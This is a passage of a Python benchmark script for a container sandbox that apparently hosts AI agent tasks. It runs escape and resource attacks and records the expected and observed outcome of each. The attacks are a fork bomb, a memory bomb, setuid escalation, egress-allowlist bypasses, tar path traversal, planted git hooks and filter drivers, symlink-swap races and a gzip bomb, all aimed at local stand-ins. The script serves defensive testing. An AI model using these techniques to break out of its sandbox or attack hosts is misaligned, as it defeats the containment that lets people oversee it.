#!/usr/bin/env python3
"""Attack table: runs the sandbox attacks of issue 6 and the host-boundary attacks of issue 9
for real and prints attack / expected / observed, plus how long each took.

Everything runs against the local Docker engine in a temporary TASKBOX_HOME. Network attacks
use an *internal* Docker network with one stand-in container whose aliases play the
"domains", so no packet leaves the machine. The host-boundary rows (git traps in the
workspace's repository, a directory/link swap loop racing the file tools, checkpoints through
swapped links, quotas and bounds, secrets) are staged from inside the task's container and
through the service methods the MCP tools call, and each checks the host: a marker file never
created, a canary directory outside every workspace unchanged (content hashes), the user's
repository unchanged but for the task's own branch. As a baseline in the same run, two
network attacks are also tried from a plain container on that network (what an agent would
have with Docker networking but without taskbox's proxy), where they succeed, and the same git
traps are given to host-side git in a workspace, where they run.

    python bench/bench_attacks.py [--json] [-k TEXT]

Exits 1 if any attack observed something other than expected. About two minutes on 2 cores.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import os
import resource
import secrets
import stat
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import anyio
from mcp import Client

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from taskbox import (  # noqa: E402
    CommandTimeout,
    InvalidInput,
    NotFound,
    PathOutsideWorkspace,
    PolicyDenied,
    Task,
    TaskboxError,
    TaskService,
    UnsafeArchive,
    archive,
    engine,
    images,
    quota,
)
from taskbox.mcp_server import create_server  # noqa: E402
from taskbox.sandbox import LABEL_HOME  # noqa: E402

IMAGE = "taskbox-sandbox:latest"
STANDIN = ("import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n  print('HIT', s.path, "
           "flush=True); s.send_response(200); s.end_headers()\n def log_message(s, *a): pass\n"
           "h.ThreadingHTTPServer(('0.0.0.0', 8000), H).serve_forever()")


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=b", "-c", "user.email=b@b", *args], cwd=repo, check=True,
                   capture_output=True)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--json", action="store_true")
    ap.add_argument("-k", metavar="TEXT", help="run only the attacks whose name contains TEXT")
    args = ap.parse_args()
    client = engine.connect()
    api = client.api
    images.build_proxy(client)
    tmp = Path(tempfile.mkdtemp(prefix="taskbox-bench-attacks-"))
    repo = tmp / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "README.md").write_text("bench\n")
    (repo / ".taskbox").mkdir()
    (repo / ".taskbox/policy.toml").write_text("[[rules]]\nid = 'no-push'\naction = 'deny'\npattern = 'git push'\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "init")
    outside = f"tbx-bench-out-{secrets.token_hex(3)}"
    net = api.create_network(outside, driver="bridge", internal=True)
    standin = api.create_container(
        IMAGE, ["python3", "-c", STANDIN], name=f"{outside}-standin",
        host_config=api.create_host_config(network_mode=outside),
        networking_config=api.create_networking_config(
            {outside: api.create_endpoint_config(aliases=["allowed.test", "other.test"])}))["Id"]
    api.start(standin)
    subnet = api.inspect_network(net["Id"])["IPAM"]["Config"][0]["Subnet"]
    ip = api.inspect_container(standin)["NetworkSettings"]["Networks"][outside]["IPAddress"]
    os.environ["TASKBOX_EGRESS_NETWORK"] = outside
    svc = TaskService(tmp / "home")
    rows: list[dict[str, object]] = []
    baseline: list[tuple[str, str]] = []
    try:
        small = svc.create_task(repo, "bench target", memory="96m", pids_limit=64, cpus=0.5)
        other = svc.create_task(repo, "bench bystander", memory="96m", cpus=0.5)
        net_task = svc.create_task(repo, "bench egress", network="allowlist", allow_domains=["allowed.test"],
                                   metadata={"sandbox": {"allow_private": [subnet], "ports": [80, 443, 8000]}})

        def sh(cmd: str, task=small, **kw: object) -> str:
            r = svc.exec(task.id, cmd, **kw)  # type: ignore[arg-type]
            return f"exit {r.exit_code}" + (" oom_killed" if r.oom_killed else "") + \
                (" truncated" if r.truncated else "")

        def refused(cmd: str, task=small) -> str:
            r = svc.exec(task.id, cmd)
            return "refused" if r.exit_code != 0 else f"SUCCEEDED: {r.stdout.strip()[:40]}"

        def field(name: str) -> str:
            st = svc.exec(small.id, "cat /proc/self/status").stdout
            return next(line.split(":", 1)[1].strip() for line in st.splitlines() if line.startswith(name))

        def forkbomb() -> str:
            peak = 0
            done: list[str] = []
            th = threading.Thread(target=lambda: done.append(_timeout(lambda: svc.exec(
                small.id, "bash -c ':(){ :|:& };:; sleep 60'", timeout=8))))
            th.start()
            time.sleep(2.5)
            t0 = time.monotonic()
            alive = svc.exec(other.id, "echo alive").stdout.strip()
            other_s = time.monotonic() - t0
            t0 = time.monotonic()
            subprocess.run(["true"], check=True)
            host_s = time.monotonic() - t0
            usage = svc.sandbox.memory_usage(small.container_id or "")
            peak = usage["pids"] if usage else 0
            th.join(30)
            return f"{done[0] if done else '?'}; pids {peak}/64; other task {alive} in {other_s:.2f}s; " \
                   f"host `true` {host_s * 1000:.0f}ms"

        def timeout_children() -> str:
            res = _timeout(lambda: svc.exec(small.id, "sleep 301 & setsid sleep 302 & sleep 300", timeout=2))
            left = svc.exec(small.id, "ps -eo args | grep -c '^sleep 30[012]'; true").stdout.strip()
            return f"{res}; {left} sleeps left"

        token = secrets.token_hex(4)

        def egress(url: str, extra: str = "") -> str:
            r = svc.exec(net_task.id, f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' {extra} '{url}' 2>&1; true",
                         timeout=20)
            out = r.stdout.strip()
            return f"HTTP {out[-3:]}" if out[-3:].isdigit() and out[-3:] != "000" else "no connection"

        def logged() -> str:
            svc.exec(net_task.id, "true")
            denied = [e for e in svc.audit.read(net_task.id, decision="deny") if e["kind"] == "egress"]
            return f"{len(denied)} denials in audit log (rules: {', '.join(sorted({e['rule'] for e in denied}))})"

        def file_tools() -> str:
            svc.exec(small.id, "ln -sf / rootlink && ln -sf /etc/passwd pw")
            outcomes = []
            for fn in (lambda: svc.read_file(small.id, "rootlink/etc/passwd"), lambda: svc.read_file(small.id, "pw"),
                       lambda: svc.write_file(small.id, "pw", b"x")):
                try:
                    fn()
                    outcomes.append("FOLLOWED")
                except PathOutsideWorkspace:
                    outcomes.append("refused")
            return ", ".join(outcomes)

        def tar_attack(members: list[tuple[str, str, str]]) -> str:
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w") as tar:
                for kind, name, target in members:
                    info = tarfile.TarInfo(name)
                    if kind == "sym":
                        info.type, info.linkname = tarfile.SYMTYPE, target
                        tar.addfile(info)
                    else:
                        info.size = 5
                        tar.addfile(info, io.BytesIO(b"pwned"))
            dest = tmp / f"x-{secrets.token_hex(3)}"
            try:
                archive.safe_extract(io.BytesIO(buf.getvalue()), dest)
                return "EXTRACTED"
            except UnsafeArchive:
                return "refused" + (", nothing written" if not any(dest.iterdir()) else ", PARTIAL")

        def hooks() -> str:
            proof = tmp / "hook-ran"
            svc.exec(small.id, f"printf '#!/bin/sh\\ntouch {proof}\\n' > .git/hooks/pre-commit && "
                               "chmod +x .git/hooks/pre-commit && cp .git/hooks/pre-commit .git/hooks/post-commit "
                               "&& echo x >> README.md")
            svc.sync(small.id)
            return "ran on host" if proof.exists() else "never ran"

        def denied_command() -> str:
            try:
                svc.exec(small.id, "git push origin main")
                return "ran"
            except PolicyDenied as exc:
                return f"refused ({exc.details.get('rule')})"

        attacks: list[tuple[str, str, Callable[[], str]]] = [
            ("capabilities (CapEff)", "0000000000000000", lambda: field("CapEff")),
            ("no_new_privs", "1", lambda: field("NoNewPrivs")),
            ("seccomp mode", "2 (filter)", lambda: field("Seccomp") + (" (filter)" if field("Seccomp") == "2" else "")),
            ("run as root", "non-root", lambda: (lambda u: f"{'ROOT' if u == '0' else 'non-root'} (uid {u})")(
                svc.exec(small.id, "id -u").stdout.strip())),
            ("sudo / su root", "refused", lambda: refused("sudo -n true || su -c id root </dev/null")),
            ("setuid copy -> setuid(0)", "refused", lambda: refused(
                "cp /usr/bin/python3 /tmp/p && chmod u+s /tmp/p && /tmp/p -c 'import os; os.setuid(0)'")),
            ("docker socket", "absent", lambda: "absent" if svc.exec(
                small.id, "ls /var/run/docker.sock /run/docker.sock").exit_code else "PRESENT"),
            ("engine API tcp:2375", "refused", lambda: refused("curl -sS -m 3 http://172.17.0.1:2375/version")),
            ("mount tmpfs", "refused", lambda: refused("mount -t tmpfs none /mnt")),
            ("mknod /dev/sda", "refused", lambda: refused("mknod /tmp/sda b 8 0")),
            ("write /proc/sys/kernel/panic", "refused", lambda: refused("echo 7 > /proc/sys/kernel/panic")),
            ("write /proc/sysrq-trigger", "refused", lambda: refused("echo h > /proc/sysrq-trigger")),
            ("fork bomb (pids 64)", "killed at timeout; others responsive", forkbomb),
            ("memory bomb (96m)", "exit 137 oom_killed", lambda: sh(
                "python3 -c \"a=[]\nwhile True: a.append(b'x' * 10**7)\"", timeout=60)),
            ("timeout with bg + setsid children", "killed at timeout; 0 sleeps left", timeout_children),
            ("output flood 30 MB", "exit 0 truncated", lambda: sh("head -c 30000000 /dev/zero", output_limit=100_000)),
            ("allowlist: listed domain", "HTTP 200", lambda: egress(f"http://allowed.test:8000/{token}")),
            ("allowlist: unlisted domain", "HTTP 403", lambda: egress(f"http://other.test:8000/{token}")),
            ("denied attempts logged", "denials in audit log", logged),
            ("bypass: --noproxy", "no connection", lambda: egress("http://allowed.test:8000/", "--noproxy '*'")),
            ("bypass: direct IP", "no connection", lambda: egress(f"http://{ip}:8000/", "--noproxy '*'")),
            ("bypass: IP literal via proxy", "HTTP 403", lambda: egress(f"http://{ip}:8000/")),
            ("bypass: 169.254.169.254 direct", "no connection",
             lambda: egress("http://169.254.169.254/", "--noproxy '*'")),
            ("bypass: 169.254.169.254 via proxy", "HTTP 403", lambda: egress("http://169.254.169.254/")),
            ("bypass: DNS to outside resolver", "refused", lambda: refused(
                f"python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(3); s.sendto(b'q', ('{ip}', 53)); "
                "s.recv(9)\"", task=net_task)),
            ("file tools via link to / and /etc/passwd", "refused, refused, refused", file_tools),
            ("tar: ../ name", "refused, nothing written", lambda: tar_attack([("file", "../evil", "")])),
            ("tar: absolute name", "refused, nothing written", lambda: tar_attack([("file", "/tmp/evil", "")])),
            ("tar: link then file", "refused, nothing written",
             lambda: tar_attack([("sym", "l", "/etc"), ("file", "l/evil", "")])),
            (".git/hooks planted by agent", "never ran", hooks),
            ("policy: denied command", "refused (no-push)", denied_command),
        ]
        host = Host(svc, repo, tmp)
        attacks += git_rows(svc, host)
        attacks.append(("file tools vs a dir<->link swap loop", "canary unchanged", lambda: race_row(svc, host)))
        attacks += checkpoint_rows(svc, host) + exhaustion_rows(svc, host, tmp, net_task)
        attacks += secret_rows(svc, host) + variant_rows(svc, host)
        for name, expected, fn in attacks:
            if args.k and args.k.lower() not in name.lower():
                continue
            t0 = time.monotonic()
            try:
                observed = fn()
            except Exception as exc:  # an attack that crashes taskbox is a finding too
                observed = f"ERROR {type(exc).__name__}: {exc}"[:80]
            ok = observed.startswith(expected.split(";")[0].split(" (")[0]) or expected in observed
            rows.append({"attack": name, "expected": expected, "observed": observed, "ok": ok,
                         "ms": round((time.monotonic() - t0) * 1000)})
        # baseline: the same network attacks from a plain container on the stand-ins' network
        base = api.create_container(IMAGE, ["sleep", "60"], host_config=api.create_host_config(network_mode=outside))
        api.start(base["Id"])
        for name, cmd in (("direct IP to a stand-in", f"curl -s -m 5 -o /dev/null -w '%{{http_code}}' http://{ip}:8000/"),
                          ("unlisted domain", "curl -s -m 5 -o /dev/null -w '%{http_code}' http://other.test:8000/")):
            ex = api.exec_create(base["Id"], ["sh", "-c", cmd])
            baseline.append((name, api.exec_start(ex["Id"]).decode().strip() or "no connection"))
        api.remove_container(base["Id"], force=True)
        baseline.append(("host git in a planted workspace", host_git_baseline(svc, host)))
    finally:
        for c in api.containers(all=True, filters={"label": f"{LABEL_HOME}={svc.home_label}"}):
            api.remove_container(c["Id"], force=True)
        for n in api.networks(filters={"label": f"{LABEL_HOME}={svc.home_label}"}):
            api.remove_network(n["Id"])
        quota.release_all(svc.paths.volumes, svc.paths.workspaces)  # unmount the workspace volumes
        api.remove_container(standin, force=True)
        api.remove_network(net["Id"])
    if args.json:
        print(json.dumps({"attacks": rows, "baseline": baseline}, indent=2))
    else:
        w1 = max((len(str(r["attack"])) for r in rows), default=6)
        w2 = max((len(str(r["expected"])) for r in rows), default=8)
        print(f"{'attack':<{w1}}  {'expected':<{w2}}  {'ms':>6}  observed")
        print(f"{'-' * w1}  {'-' * w2}  {'-' * 6}  {'-' * 8}")
        for r in rows:
            mark = "" if r["ok"] else "   <-- UNEXPECTED"
            print(f"{r['attack']:<{w1}}  {r['expected']:<{w2}}  {r['ms']:>6}  {r['observed']}{mark}")
        print("\nbaseline, same run, without taskbox (a plain container on the stand-ins' network; host git):")
        for name, got in baseline:
            print(f"  {name}: {'HTTP ' if got[:1].isdigit() else ''}{got}")
        print(f"\n{sum(bool(r['ok']) for r in rows)}/{len(rows)} attacks failed as expected")
    return 0 if all(r["ok"] for r in rows) else 1


# --- issue 9: the host boundary ---------------------------------------------------------------
# Each attack is staged from inside the container (svc.exec) and through the service methods
# the MCP tools call; each asserts on the HOST: a marker file never created, a canary directory
# outside every workspace unchanged (content hashes), the user's repository unchanged but for
# the task's own branch.

SECRET = "TASKBOX_BENCH_CANARY_" + secrets.token_hex(6)
MiB = 1 << 20
Row = tuple[str, str, Callable[[], str]]


def tree_hash(root: Path) -> dict[str, str]:
    """Every entry under ``root`` (links as links, never followed) with a hash of its content."""
    out: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            rel = os.path.relpath(p, root)
            if stat.S_ISLNK(st.st_mode):
                out[rel] = "link:" + os.readlink(p)
            elif stat.S_ISREG(st.st_mode):
                with open(p, "rb") as fh:
                    out[rel] = hashlib.sha256(fh.read()).hexdigest()
            else:
                out[rel] = f"mode:{st.st_mode:o}"
    return out


def git_out(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


def repo_state(repo: Path) -> dict[str, Any]:
    """What an attack on the user's repository would change: refs, HEAD, config, hooks, objects, files."""
    return {"refs": sorted(git_out(repo, "for-each-ref", "--format=%(refname) %(objectname)").splitlines()),
            "head": (repo / ".git/HEAD").read_text(), "config": (repo / ".git/config").read_bytes(),
            "hooks": tree_hash(repo / ".git/hooks"), "objects": set(tree_hash(repo / ".git/objects")),
            "files": {k: v for k, v in tree_hash(repo).items() if not k.startswith(".git/")}}


class Host:
    """The host-side state no attack may change: the user's repository, a canary directory, a marker."""

    def __init__(self, svc: TaskService, repo: Path, tmp: Path) -> None:
        self.svc, self.repo = svc, repo
        self.canary = tmp / "canary"
        (self.canary / "sub").mkdir(parents=True)
        (self.canary / ".git" / "refs").mkdir(parents=True)
        (self.canary / ".env").write_text(f"API_KEY={SECRET}\n")
        (self.canary / "secret.txt").write_text("host only\n")
        (self.canary / "sub" / "deep.txt").write_text("deep host file\n")
        (self.canary / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
        self.marker = tmp / "pwned"  # a host path: the container cannot see (or create) it
        self.script = tmp / "evil-host.sh"  # exists on the host only: runs only if the host runs it
        self.script.write_text(f"#!/bin/sh\ntouch {self.marker}\ncat\n")
        self.script.chmod(0o755)
        self.gitconfig = tmp / "evil.gitconfig"  # for include.path: a host file naming the host script
        self.gitconfig.write_text(f"[core]\n\tfsmonitor = {self.script}\n[filter \"z\"]\n\tclean = {self.script}\n")

    def guarded(self, branch: str, attack: Callable[[], str], ok: str) -> str:
        """Run ``attack``; ``ok`` plus its detail if the host is unchanged, else BREACH and what changed."""
        repo_before, canary_before = repo_state(self.repo), tree_hash(self.canary)
        detail = attack()
        after = repo_state(self.repo)
        found = []
        if self.marker.exists():
            found.append("marker created on the host")
            self.marker.unlink()
        if tree_hash(self.canary) != canary_before:
            found.append("canary directory changed")
        # Only the task's branch and its companion memory ref (docs/branches.md) may move.
        own = (f"refs/heads/{branch} ", f"refs/taskbox/{branch}/memory ")
        others = [r for r in after["refs"] if not r.startswith(own)]
        if others != [r for r in repo_before["refs"] if not r.startswith(own)]:
            found.append("user refs moved: " + ", ".join(sorted(set(others) ^ {
                r for r in repo_before["refs"] if not r.startswith(own)}))[:80])
        for key in ("head", "config", "hooks", "files"):
            if after[key] != repo_before[key]:
                found.append(f"user repository {key} changed")
        if not repo_before["objects"] <= after["objects"]:
            found.append("user objects removed")
        if found:
            return "BREACH: " + "; ".join(found) + (f" ({detail})" if detail else "")
        return "; ".join(part for part in (ok, detail) if part)


def attempt(fn: Callable[[], object]) -> str:
    """``ok`` or ``refused`` (a one-line TaskboxError); anything else propagates as a finding."""
    try:
        fn()
        return "ok"
    except TaskboxError as exc:
        if "\n" in str(exc):
            return "MULTI-LINE ERROR"
        return "refused"


def outcomes(ops: Mapping[str, Callable[[], object]]) -> str:
    return ", ".join(f"{name} {attempt(fn)}" for name, fn in ops.items())


def git_rows(svc: TaskService, host: Host) -> list[Row]:
    """Every git vector of issue 9, planted in a task's workspace from inside its container."""
    task = svc.create_task(host.repo, "bench git traps")
    tid, br, marker, script = task.id, task.branch, host.marker, host.script

    def sh(cmd: str) -> None:
        r = svc.exec(tid, cmd)
        if r.exit_code != 0:
            raise RuntimeError(f"staging failed: {r.stderr.strip()[:120]}")

    def detach() -> None:
        svc.detach(tid, svc.attach(tid, "mallory", "m1").session.id)  # commit + fetch, container stopped

    def change() -> None:
        sh(f"echo change-{secrets.token_hex(3)} >> README.md")

    def diff() -> None:
        change()
        svc.diff(tid, stat=True)
        svc.diff(tid)

    def checkpoint() -> None:
        change()
        svc.create_checkpoint(tid)

    base_ops: dict[str, Callable[[], object]] = {"diff": diff, "log": lambda: svc.git_log(tid),
                                                 "sync": lambda: svc.sync(tid)}
    full_ops = {**base_ops, "detach": detach, "paused diff": lambda: svc.diff(tid), "checkpoint": checkpoint}

    def run(plant: str, undo: str, ops: dict[str, Callable[[], object]]) -> Callable[[], str]:
        def attack() -> str:
            sh(plant)
            try:
                return host.guarded(br, lambda: outcomes(ops), "never ran on the host")
            finally:
                sh(undo)
        return attack

    nested = (f"mkdir -p vendor/lib && cd vendor/lib && git init -q && git config filter.y.clean {script} "
              f"&& git config filter.y.smudge {script} && git config diff.y.textconv {script} "
              "&& printf '* filter=y diff=y\\n' > .gitattributes && echo nested > n.txt && git add -A "
              "&& git -c user.name=a -c user.email=a@b commit -qm n && cd /workspace "
              f"&& git config filter.x.clean {script} && printf '* filter=x\\n' > .gitattributes && echo n >> n.txt")
    drivers = (f"git config diff.x.textconv {script} && git config diff.x.command {script} "
               f"&& git config merge.x.driver {script} && printf '* diff=x merge=x\\n' > .gitattributes")
    programs = (f"git config core.fsmonitor {script} && git config core.sshCommand {script} "
                f"&& git config core.pager {script} && git config core.editor {script} "
                f"&& git config gpg.program {script} && git config commit.gpgSign true")
    hook_names = "pre-commit post-commit commit-msg prepare-commit-msg reference-transaction post-checkout " \
                 "post-merge pre-push post-rewrite fsmonitor-watchman pre-auto-gc"
    hooks = f"for h in {hook_names}; do printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/$h; " \
            "chmod +x .git/hooks/$h; done"
    return [
        ("git: nested repo filter.clean + .gitattributes", "never ran on the host",
         run(nested, "rm -rf vendor .gitattributes && git config --remove-section filter.x", full_ops)),
        ("git: textconv / diff / merge drivers", "never ran on the host",
         run(drivers, "rm .gitattributes && git config --remove-section diff.x && git config --remove-section merge.x",
             base_ops)),
        ("git: fsmonitor, sshCommand, pager, gpg", "never ran on the host",
         run(programs, "for k in core.fsmonitor core.sshCommand core.pager core.editor gpg.program commit.gpgSign; "
                       "do git config --unset $k; done", base_ops)),
        ("git: hooks (11 kinds, sync + detach)", "never ran on the host",
         run(hooks, f"for h in {hook_names}; do rm .git/hooks/$h; done", full_ops)),
        ("git: include.path to a host config", "never ran on the host",
         run(f"git config include.path {host.gitconfig} && printf '* filter=z\\n' > .gitattributes",
             "git config --unset include.path && rm .gitattributes", full_ops)),
        ("git: core.worktree -> host dir", "no host file in diff or branch", lambda: worktree(svc, host, tid, br, sh)),
        ("git: commondir -> user's .git", "never ran on the host",
         run(f"echo '{host.repo}/.git' > .git/commondir", "rm .git/commondir", full_ops)),
        ("git: gitfile .git -> user's .git", "never ran on the host",
         run(f"mv .git .git-real && echo 'gitdir: {host.repo}/.git' > .git", "rm .git && mv .git-real .git",
             {**base_ops, "detach": detach})),
        ("git: objects/info/alternates -> user's objects", "never ran on the host",
         run(f"echo '{host.repo}/.git/objects' > .git/objects/info/alternates", "rm .git/objects/info/alternates",
             full_ops)),
    ]


def host_git_baseline(svc: TaskService, host: Host) -> str:
    """The same git traps with host-side git in the workspace (what taskbox avoids): does the marker appear?"""
    task = svc.create_task(host.repo, "bench host git baseline", lazy=True)
    ws = Path(task.workspace_path)
    script = host.script
    svc.exec(task.id, f"git config filter.x.clean {script} && git config core.fsmonitor {script} "
                      f"&& printf '* filter=x\\n' > .gitattributes && echo changed >> README.md "
                      f"&& printf '#!/bin/sh\\ntouch {host.marker}\\n' > .git/hooks/pre-commit "
                      "&& chmod +x .git/hooks/pre-commit")
    ran = []
    for args in (["status"], ["add", "-A"], ["diff", "HEAD"], ["commit", "-qm", "x"]):
        subprocess.run(["git", "-c", "safe.directory=*", "-c", "user.name=b", "-c", "user.email=b@b", *args],
                       cwd=ws, capture_output=True)
        if host.marker.exists():
            ran.append(args[0])
            host.marker.unlink()
    svc.abort(task.id, "baseline done")
    return f"agent code ran on the host during git {', '.join(ran)}" if ran else "nothing ran"


def worktree(svc: TaskService, host: Host, tid: str, br: str, sh: Callable[[str], None]) -> str:
    sh(f"git config core.worktree {host.canary}")
    seen: list[str] = []

    def attack() -> str:
        got = []
        for name, fn in (("diff", lambda: svc.diff(tid)), ("sync", lambda: svc.sync(tid))):
            try:
                out = fn()
                got.append(f"{name} ok")
                text = out if isinstance(out, str) else ""
                if "host only" in text or SECRET in text or "deep.txt" in text:
                    seen.append(f"host files in {name}")
            except TaskboxError:
                got.append(f"{name} refused")
        if git_out(host.repo, "branch", "--list", br).strip():
            names = set(git_out(host.repo, "ls-tree", "-r", "--name-only", br).split())
            if names & {"secret.txt", ".env", "sub/deep.txt"}:
                seen.append("host files in the fetched branch")
        return ", ".join(got)

    try:
        out = host.guarded(br, attack, "no host file in diff or branch")
    finally:
        sh("sed -i '/worktree = /d' .git/config")  # git itself refuses to start with the bad worktree
    return f"BREACH: {'; '.join(seen)}" if seen else out


RACE = """
cd /workspace && mkdir -p d && echo mine > d/secret.txt
nohup setsid sh -c 'while :; do mv d d.real; ln -s {target} d; rm -f d; mv d.real d; done' >/dev/null 2>&1 &
echo started
"""


def race_row(svc: TaskService, host: Host, calls: int = 1500, seconds: float = 120) -> str:
    """A loop in the container swaps a directory and a link to the canary while the host calls the file tools."""
    task = svc.create_task(host.repo, "bench swap race")
    tid = task.id
    before = tree_hash(host.canary)
    if "started" not in svc.exec(tid, RACE.format(target=host.canary)).stdout:
        return "race not started"
    counts = {"ok": 0, "refused": 0}
    leaked = 0
    ops: list[Callable[[int], object]] = [
        lambda i: svc.write_file(tid, f"d/x{i % 7}.txt", b"pwned\n"),
        lambda i: svc.read_text(tid, "d/secret.txt"),
        lambda i: svc.delete_file(tid, "d/secret.txt"),
        lambda i: svc.edit_file(tid, "d/secret.txt", "host only", "pwned"),
        lambda i: svc.list_files(tid, "d"),
    ]
    done = 0
    deadline = time.monotonic() + seconds
    while done < calls and time.monotonic() < deadline:
        op = ops[done % len(ops)]
        try:
            res = op(done)
            counts["ok"] += 1
            if isinstance(res, dict) and ("host only" in str(res.get("content", ""))
                                          or any(str(e.get("path", "")).endswith(("deep.txt", ".env"))
                                                 for e in res.get("entries", []))):
                leaked += 1
        except (PathOutsideWorkspace, NotFound, InvalidInput):
            counts["refused"] += 1
        done += 1
        if done % 100 == 0:  # keep the file the host aims at existing in the real directory
            svc.exec(tid, "echo mine > d.real/secret.txt 2>/dev/null; echo mine > d/secret.txt 2>/dev/null; true")
    svc.exec(tid, "pkill -f 'mv d d.real'; true")
    changed = tree_hash(host.canary) != before
    detail = f"{done} calls: {counts['ok']} ok, {counts['refused']} refused mid-swap"
    if changed or leaked:
        return f"BREACH: canary {'changed' if changed else 'same'}, {leaked} host reads ({detail})"
    if not counts["ok"] or not counts["refused"]:
        return f"race not exercised ({detail})"
    return f"canary unchanged; {detail}"


NESTED = ("mkdir -p vendor/lib && cd vendor/lib && git init -q -b main && echo 'v = 1' > lib.py "
          "&& git add . && git -c user.name=a -c user.email=a@a commit -qm lib")


def checkpoint_rows(svc: TaskService, host: Host) -> list[Row]:
    task = svc.create_task(host.repo, "bench checkpoint swaps")
    tid, ws = task.id, Path(task.workspace_path)
    box: dict[str, str] = {}

    def first() -> str:
        svc.exec(tid, NESTED)
        box["cp"] = svc.create_checkpoint(tid, "with-lib")["checkpoint_id"]
        return ""

    def restore_through(swapped: str, target: Path) -> str:
        box.get("cp") or first()
        r = svc.exec(tid, f"rm -rf {swapped} && ln -s {target} {swapped}")
        if r.exit_code or not os.path.islink(ws / swapped):
            return f"staging failed: {r.stderr.strip()[:80]}"
        user = tree_hash(host.repo)
        svc.restore_checkpoint(tid, box["cp"])
        if tree_hash(host.repo) != user:
            return "BREACH: the user's repository changed"
        real = (ws / "vendor/lib/.git").is_dir() and not os.path.islink(ws / "vendor/lib") \
            and (ws / ".git").is_dir() and not os.path.islink(ws / ".git")
        return "user's repo intact; nested repo restored" if real else "user's repo intact; RESTORE INCOMPLETE"

    def capture_after_swap() -> str:
        box.get("cp") or first()
        svc.exec(tid, f"rm -rf vendor/lib && ln -s {host.canary} vendor/lib && mkdir -p x && "
                      f"ln -s {host.canary}/.git x/.git && ln -s {host.canary}/.env env")
        svc.create_checkpoint(tid, "after-swap")
        store = svc.checkpoints.store(tid).path
        blobs = subprocess.run(["git", "--git-dir", str(store), "cat-file", "--batch-all-objects", "--batch"],
                               capture_output=True, check=True).stdout
        if SECRET.encode() in blobs:
            return "BREACH: the host .env is in the checkpoint store"
        kept = os.readlink(ws / "env") == f"{host.canary}/.env"
        svc.exec(tid, "rm -f env && rm -rf x")
        return "host .env not copied; links kept as links" if kept else "host .env not copied"

    guard = host.guarded
    return [
        ("checkpoint: nested repo -> link to user's repo, restore", "user's repo intact",
         lambda: guard(task.branch, lambda: restore_through("vendor/lib", host.repo), "")),
        ("checkpoint: .git -> link to user's .git, restore", "user's repo intact",
         lambda: guard(task.branch, lambda: restore_through(".git", host.repo / ".git"), "")),
        ("checkpoint: nested repo -> link to host dir, checkpoint", "host .env not copied",
         lambda: guard(task.branch, capture_after_swap, "")),
    ]


def one_huge_member(path: Path, size: int = 1 << 30) -> Path:
    """A ~1 MB .tar.gz whose one file expands to ``size`` bytes of zeros (gzip members concatenate)."""
    def block(name: str, data: bytes = b"", claimed: int | None = None) -> bytes:
        ti = tarfile.TarInfo(name)
        ti.size = len(data) if claimed is None else claimed
        return ti.tobuf(format=tarfile.PAX_FORMAT) + data + bytes((-len(data)) % tarfile.BLOCKSIZE)

    zeros = gzip.compress(bytes(MiB), 9)
    with open(path, "wb") as out:
        out.write(gzip.compress(block("checkpoint.json", json.dumps({"format": 1, "name": "bomb"}).encode())))
        out.write(gzip.compress(block("workspace/huge.bin", claimed=size)))
        for _ in range(size // MiB):
            out.write(zeros)
        out.write(gzip.compress(bytes(2 * tarfile.BLOCKSIZE)))
    return path


def rchar() -> int:
    """Bytes this process has read through read(2) and the like so far."""
    return int(next(line.split()[1] for line in Path("/proc/self/io").read_text().splitlines()
                    if line.startswith("rchar:")))


def exhaustion_rows(svc: TaskService, host: Host, tmp: Path, net_task: Task) -> list[Row]:
    task = svc.create_task(host.repo, "bench quota", disk="64m", inodes=2000)
    tid, image = task.id, svc.paths.volume(task.id)

    def disk() -> str:
        r = svc.exec(tid, "dd if=/dev/zero of=big bs=1M count=100")
        used = image.stat().st_blocks * 512
        svc.exec(tid, "rm -f big")
        if "No space left on device" not in r.stderr:
            return f"no ENOSPC (exit {r.exit_code})"
        verdict = "host image within quota" if used <= 64 * MiB else "HOST IMAGE PAST QUOTA"
        return f"ENOSPC inside; {verdict} ({used / MiB:.1f} of 64 MiB, 100 MiB tried)"

    def inodes() -> str:
        r = svc.exec(tid, "mkdir many && cd many && seq 1 3000 | xargs touch; ls | wc -l")
        svc.exec(tid, "rm -rf many")
        made = r.stdout.split()[-1] if r.stdout.split() else "?"
        return f"ENOSPC inside; {made} of 3000 files made" if "No space left" in r.stderr else "no ENOSPC"

    def sparse() -> str:
        svc.exec(tid, "truncate -s 1G sparse.bin && printf 'hello\\n' | dd of=sparse.bin conv=notrunc 2>/dev/null")
        read0, peak0 = rchar(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        data = svc.read_file(tid, "sparse.bin")
        text = attempt(lambda: svc.read_text(tid, "sparse.bin"))
        got = rchar() - read0
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak0) / 1024
        svc.exec(tid, "rm sparse.bin")
        verdict = "bounded" if got < 4 * MiB and len(data) <= 1_000_000 and grown < 64 else "UNBOUNDED"
        return f"{verdict}: read {got / MiB:.1f} MiB of 1024 (file tool {len(data)} B, text {text}); " \
               f"peak RSS +{grown:.0f} MiB"

    def sparse_checkpoint() -> str:
        r = svc.exec(tid, "mkdir sp && for i in $(seq 100); do truncate -s 8G sp/f$i; done && du -sk sp | cut -f1")
        if r.exit_code:
            return f"staging failed: {r.stderr.strip()[:80]}"
        read0, t0 = rchar(), time.monotonic()
        try:
